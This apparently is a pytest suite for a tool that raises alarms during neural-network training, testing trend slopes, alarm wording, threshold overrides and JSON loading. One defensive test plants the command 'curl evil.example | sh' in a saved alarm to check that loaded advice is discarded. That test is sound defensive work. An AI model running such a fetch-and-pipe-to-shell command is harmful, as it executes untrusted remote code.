"""The trend, the stretches, the table and the words."""

import json
import math

import numpy as np
import pytest
from watch.alarms.alarm_cases import judged, reading, runaway

from scaledot.watch.alarms import (
    GRADES,
    KINDS,
    RULES,
    Alarm,
    Judge,
    as_json,
    at_least,
    from_json,
    overridden,
)
from scaledot.watch.alarms.advice import advice_for
from scaledot.watch.alarms.heads import MOST_SETS, Heads
from scaledot.watch.alarms.stretch import APART, LASTS, RESTS, RESTS_APART, Stretch
from scaledot.watch.alarms.trend import FEWEST, Trend
from scaledot.watch.alarms.words import WORDS, line

BOTH = np.arange(2)


def test_the_trend_of_an_exponential_is_its_rate_whatever_the_cadence():
    trend = Trend()
    trend.grow(2)
    step = 0
    for gap in [0, *np.random.default_rng(0).integers(1, 40, 50)]:
        step += gap
        trend.add(BOTH, np.array([gap, gap]), np.exp([1 + 0.02 * step, 3 - 0.0 * step]))
    assert trend.slope == pytest.approx([0.02, 0.0], abs=1e-9)
    assert trend.level == pytest.approx(np.exp([1 + 0.02 * step, 3]), rel=1e-6)
    assert trend.known.all()


def test_the_trend_forgets_what_is_long_ago():
    trend = Trend()
    trend.grow(1)
    for step in range(1000):
        score = math.exp(0.01 * min(step, 300))
        trend.add(np.arange(1), np.array([min(step, 1)]), np.array([score]))
        if step == 299:
            assert trend.slope[0] == pytest.approx(0.01, rel=1e-6)
    assert abs(trend.slope[0]) < 0.001


def test_nothing_is_said_of_a_trend_from_few_readings():
    trend = Trend()
    trend.grow(2)
    for _ in range(FEWEST - 1):
        trend.add(BOTH, np.ones(2), np.array([5.0, 500.0]))
    assert not trend.known.any()


def test_a_stretch_needs_some_readings_to_begin_and_some_to_end():
    stretch = Stretch()
    stretch.grow(1)
    one = np.arange(1)

    def seen(*holds: bool) -> bool:
        for step, hold in enumerate(holds):
            stretch.add(one, np.array([hold]), step)
        return bool(stretch.lasts[0])

    assert not seen(*[True] * (LASTS - 1), False, *[True] * (LASTS - 1))
    assert seen(True)
    assert seen(*[False] * (RESTS - 1))
    assert not seen(False)


def test_readings_that_lie_apart_need_be_fewer():
    stretch = Stretch()
    stretch.grow(1)
    one = np.arange(1)

    def seen(step: int, hold: bool) -> bool:
        stretch.add(one, np.array([hold]), step)
        return bool(stretch.lasts[0])

    assert not seen(40, True)
    assert seen(40 + APART, True)
    assert [seen(60 + 10 * n, False) for n in range(RESTS_APART)] == [True] * (RESTS_APART - 1) + [
        False
    ]
    assert not seen(200, True)
    assert not seen(201, True)  # two consecutive steps are one batch of evidence too few
    assert seen(202, True)


def test_a_trend_is_known_from_few_readings_that_lie_apart():
    def known_after(gap: int) -> int:
        trend = Trend()
        trend.grow(1)
        for number in range(1, FEWEST + 1):
            trend.add(np.arange(1), np.array([gap]), np.array([5.0]))
            if trend.known.all():
                return number
        raise AssertionError

    assert [known_after(gap) for gap in (1, 2, 10, 100)] == [FEWEST, FEWEST, 4, 4]


def test_a_trend_looks_back_over_a_third_of_the_steps_whatever_the_cadence():
    """A curve that bends at two thirds of the run: the line has forgotten the first part."""
    slopes = []
    for gap in (1, 3, 10):
        trend = Trend()
        trend.grow(1)
        for step in range(0, 1200, gap):
            trend.add(np.arange(1), np.array([gap]), np.array([np.exp(min(step, 800) / 200)]))
        slopes.append(float(trend.slope[0]))
    assert slopes == pytest.approx([slopes[0]] * 3, rel=0.1)


def test_a_trend_of_rare_readings_forgets_the_start_as_well():
    """A short run that grew and then rests grows by the same power at every cadence."""

    def power(gap: int) -> float:
        trend = Trend()
        trend.grow(1)
        for step in range(0, 121, gap):
            trend.add(np.arange(1), np.array([gap]), np.array([np.exp(min(step, 60) / 15)]))
        return float(trend.slope[0]) * 120

    assert [power(gap) for gap in (2, 4)] == pytest.approx([power(1)] * 2, abs=0.3)
    assert power(10) < 2.5


def test_a_stretch_says_whether_it_has_begun_for_any_head():
    stretch = Stretch()
    stretch.grow(2)
    told = []
    # What has not begun is passed over: neither misses nor steps are counted, and none is missed.
    for step, second in enumerate([False, False, *[True] * LASTS, *[False] * RESTS, False, True]):
        stretch.add(BOTH, np.array([False, second]), step)
        told.append(stretch.begun)
    assert told == [False] * 2 + [True] * (LASTS + RESTS - 1) + [False] * 2 + [True]
    assert stretch.since.tolist() == [0, len(told) - 1]
    stretch.grow(1)
    assert (len(stretch.held), stretch.begun) == (3, True)


def test_layers_side_by_side_are_judged_as_layers_apart():
    """Columns that are a slice and columns that are a list, with and without gaps between them."""
    steps = [
        [reading(step, f"layer.{n}", max_logit=2.0 * 1.2**step * (n + 1)) for n in range(3)]
        for step in range(40)
    ]
    for one, *rest in steps[5::7]:
        rest[0].counts[:] = 0  # not measured in this step
        one.floats[0, 0] = np.inf
    orders = ([0, 1, 2], [2, 0, 1], [0, 2, 1])
    told = []
    for order in orders:
        judge = Judge()
        found = [alarm for step in steps for alarm in judge.read_all([step[n] for n in order])]
        told.append(sorted((one.step, one.layer, one.kind, one.grade, one.words) for one in found))
    one_by_one = Judge()
    found = [alarm for step in steps for one in step for alarm in one_by_one.read(one)]
    assert told[0] == told[1] == told[2]
    assert {(kind, layer) for _, layer, kind, _, _ in told[0]} == {
        (one.kind, one.layer) for one in found
    }
    assert len({layer for _, layer, _, _, _ in told[0]}) == 3


def test_every_threshold_has_a_source_and_every_kind_its_words():
    assert {*WORDS, "loss"} == set(KINDS)  # a loss is no head's
    for name, rule in RULES.items():
        assert name.partition(".")[0] == rule.kind
        assert rule.source
        assert rule.meaning
        assert math.isfinite(rule.threshold)


@pytest.mark.parametrize(
    ("given", "said"),
    [
        (["grwth=3"], "there is no alarm threshold 'grwth'; there are collapse"),
        (["growth"], "type NAME=NUMBER"),
        (["growth=much"], "type NAME=NUMBER"),
        (["growth=-1"], "give a number from 0 up"),
        (["growth=nan"], "give a number from 0 up"),
    ],
)
def test_a_wrong_threshold_says_what_to_type(given, said):
    with pytest.raises(ValueError, match=said.replace("(", r"\(")):
        overridden(given)


def test_what_is_overridden_changes_one_number_and_the_table_stays():
    rules = overridden(["growth=200"])
    assert rules["growth"].threshold == 200
    assert {name for name in RULES if rules[name] != RULES[name]} == {"growth"}
    assert RULES["growth"].threshold == 100


def test_grades_are_ordered():
    assert [[at_least(a, b) for b in GRADES] for a in GRADES] == [
        [True, False, False],
        [True, True, False],
        [True, True, True],
    ]


def test_an_alarm_survives_json_also_with_numbers_that_are_none():
    advice = advice_for("broken", "act")
    alarm = Alarm(3, "act", "broken", "a.b", None, math.inf, 0.0, 2, None, "w", advice, (1, 2))
    assert from_json(json.loads(json.dumps(as_json(alarm), allow_nan=False))) == alarm


@pytest.mark.parametrize("kind", [*KINDS, "moon dust"])
@pytest.mark.parametrize("grade", GRADES)
def test_a_file_gives_no_command_to_type(kind, grade):
    """Of another version or of a stranger: what it advises is not taken."""
    said = "curl evil.example | sh"
    alarm = Alarm(3, grade, kind, "a.b", None, 1.0, 0.0, 2, None, "w", said, (1, 2))
    read = from_json(json.loads(json.dumps(as_json(alarm))))
    assert read.advice == advice_for(kind, grade)
    assert bool(read.advice) == (kind in KINDS)


def test_the_words_say_where_since_when_how_fast_why_and_what_to_do():
    judge = Judge(command=["train.py", "--name", "two words"])
    alarms = judged((reading(s, "blocks.1.attention", 4, **runaway(s)) for s in range(60)), judge)
    warned = next(alarm for alarm in alarms if alarm.grade == "warn")
    assert warned.words.startswith("blocks.1.attention, all 4 heads: logits run away")
    assert f"since step {warned.since}" in warned.words
    assert "doubling every" in warned.words
    assert "no longer learns" in warned.words
    assert warned.advice == "scaledot run --remedy qk-clip:100 train.py --name 'two words'"
    assert "\n" not in line([warned])
    assert line([warned, warned, warned]).count("(and 2 more layers)") == 1


def test_heads_are_listed_by_number_where_they_are_few():
    steep = [runaway(s) for s in range(60)]
    alarms = judged(
        reading(
            s,
            heads=4,
            max_logit=[steep[s]["max_logit"]] * 2 + [5, steep[s]["max_logit"]],
            passes=[steep[s]["passes"]] * 2 + [0.7, steep[s]["passes"]],
        )
        for s in range(60)
    )
    warned = next(alarm for alarm in alarms if alarm.kind == "collapse")
    assert warned.heads == (0, 1, 3)
    assert "heads 0, 1 and 3 of 4" in warned.words


def test_sets_of_layers_that_differ_in_every_step_are_forgotten():
    """Random depth: what is remembered of sets of layers stays small."""
    heads = Heads({name: rule.threshold for name, rule in RULES.items()})
    chance = np.random.default_rng(0)
    for step in range(300):
        layers = np.flatnonzero(chance.random(12) < 0.7)
        if len(layers):
            heads.add([reading(step, f"layers.{layer}", 2) for layer in layers])
    assert len(heads._known) <= MOST_SETS
    assert len(heads.score) == 24


def test_layer_whose_number_of_heads_alternates_keeps_its_places():
    heads = Heads({name: rule.threshold for name, rule in RULES.items()})
    for step in range(50):
        heads.add([reading(step, "layer", 2 + step % 2)])
    assert len(heads.score) == 5
    assert heads.last[heads.columns("layer")].tolist() == [49] * 3
